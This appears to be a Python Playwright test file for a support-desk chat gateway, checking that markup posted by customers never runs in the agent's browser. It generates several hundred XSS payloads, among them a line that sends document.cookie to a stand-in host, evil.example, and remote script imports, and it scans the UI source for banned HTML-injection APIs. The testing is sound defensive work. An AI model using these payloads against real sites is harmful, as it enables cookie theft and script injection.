"""Rows 10 and 11: five hundred ways to write markup, read at the desk and in the chat, and nothing of it runs."""

import itertools
import os
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from playwright.async_api import Dialog, Page, expect

from tests.e2e.conftest import Sit
from tests.servers.gateway import ROOT, Gateway, prepared, running

pytestmark = pytest.mark.asyncio(loop_scope="session")

CHANNELS = """
[channels.web]
kind = "webchat"
flood = { frames = 100000 }
[channels.app]
kind = "api"
token = {env = "APP_TOKEN"}
webhook_url = "http://localhost:9/"
webhook_secret = {env = "APP_SECRET"}
"""
ENVIRON = {"APP_TOKEN": "a token of the sample app in tests", "APP_SECRET": "whsec_" + "c2FtcGxl" * 8}
RUN = (
    "window.hit=1",
    "fetch('//evil.example/'+document.cookie)",
    "alert(1)",
    "import('//evil.example/x.js')",
)
TAGS = (
    "<script>{0}</script>", "<img src=x onerror={0}>", "<svg onload={0}>", "<svg><script>{0}</script></svg>", "<body onload={0}>",
    "<iframe src=javascript:{0}>", "<iframe srcdoc='<script>{0}</script>'>", "<a href=javascript:{0}>x</a>", "<details open ontoggle={0}>",
    "<video><source onerror={0}>", "<object data=javascript:{0}>", "<embed src=javascript:{0}>", "<math><mi//xlink:href='javascript:{0}'>",
    "<form action=javascript:{0}><input type=submit>", "<input autofocus onfocus={0}>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>",
    "<img src=//evil.example/p.gif>", "[x](javascript:{0})", "![x](//evil.example/p.gif)", "<marquee onstart={0}>", "<template><script>{0}</script></template>",
    "<audio src=//evil.example/a.mp3 autoplay onerror={0}>",
)  # fmt: skip
AROUND = ("{0}", '">{0}', "'>{0}", "</textarea>{0}", "--><!-- -->{0}")
PAYLOADS = [shape.format(tag.replace("{0}", run)) for tag, run, shape in itertools.product(TAGS, RUN, AROUND)]


@pytest.fixture(scope="module")
def gateway(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Gateway]:
    house = prepared(tmp_path_factory.mktemp("markup") / "house", channels=CHANNELS)
    house.environ = ENVIRON
    with running(house) as one:
        one.set_up("limei", "1001", "李梅")
        yield one


class Watched:
    """What a page does that it must not."""

    def __init__(self, page: Page, own: str) -> None:
        self.foreign: list[str] = []
        self.dialogs: list[str] = []
        page.on(
            "request",
            lambda asked: (
                None if asked.url.startswith((own, "blob:", "data:")) else self.foreign.append(asked.url)
            ),
        )
        page.on("dialog", self._dialog)
        self.page = page

    async def _dialog(self, dialog: Dialog) -> None:
        self.dialogs.append(str(dialog))
        await dialog.dismiss()

    async def must_be_clean(self) -> None:
        assert await self.page.evaluate("window.hit") is None
        assert (self.foreign, self.dialogs) == ([], [])


async def write(http: aiohttp.ClientSession, thread: str, texts: list[str], name: str) -> None:
    """Post as a customer whose name is a payload too, each with a file whose name is one."""
    headers = {"Authorization": f"Bearer {ENVIRON['APP_TOKEN']}"}
    for number, text in enumerate(texts):
        file = {"name": f"{text[:150]}.txt", "content": "aGVsbG8="}
        body: dict[str, Any] = {
            "id": uuid.uuid4().hex,
            "thread": thread,
            "from": {"id": thread, "name": name[:200]},
            "text": text,
        }
        body |= {"attachments": [file]} if number % 10 == 0 else {}
        async with http.post("/api/v1/channels/app/messages", json=body, headers=headers) as answer:
            assert answer.status == 202, await answer.text()


async def test_row_10_and_11_nothing_that_a_customer_writes_runs_at_the_desk(
    gateway: Gateway, sit: Sit
) -> None:
    assert len(PAYLOADS) >= 500
    chosen = PAYLOADS if os.environ.get("PROVE") == "full" else PAYLOADS[:: len(PAYLOADS) // 50]
    async with aiohttp.ClientSession(gateway.url) as http:
        # The wish for a person makes the ticket; the first words become its subject and the bot's summary of it.
        await write(http, "markup", [f"转人工 {chosen[0]}", *chosen], name=chosen[1])
    desk = await sit(gateway, "limei")
    watched = Watched(desk.page, gateway.url)
    row = desk.page.get_by_test_id("ticket-row").first
    await expect(row).to_be_visible(timeout=60_000)
    await row.click()
    messages = desk.page.get_by_test_id("message")
    await expect(messages.last).to_be_visible()
    for number in range(0, await messages.count(), 10):
        await messages.nth(number).scroll_into_view_if_needed()
    await desk.page.wait_for_timeout(1000)
    await desk.write(chosen[2], "note")
    await desk.page.wait_for_timeout(1500)
    await watched.must_be_clean()
    strange = "document.querySelectorAll('main script, iframe:not([sandbox]), object, embed, base, [onerror], [onload]').length"
    assert await desk.page.evaluate(strange) == 0


BANNED = ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "dangerouslySetInnerHTML", "createContextualFragment",
          "DOMParser", "eval(", "new Function", "setHTMLUnsafe")  # fmt: skip


def browser_sources() -> list[Path]:
    folder = ROOT / "gateway" / "web" / "ui"
    return [
        path
        for ending in ("*.ts", "*.tsx")
        for path in folder.rglob(ending)
        if not {"node_modules", "tests"} & set(path.relative_to(folder).parts)
    ]


async def test_row_10_no_source_of_the_browser_makes_markup_of_a_string() -> None:
    sources = browser_sources()
    assert len(sources) > 50
    found = [(path.name, word) for path in sources for word in BANNED if word in path.read_text("utf-8")]
    assert found == []
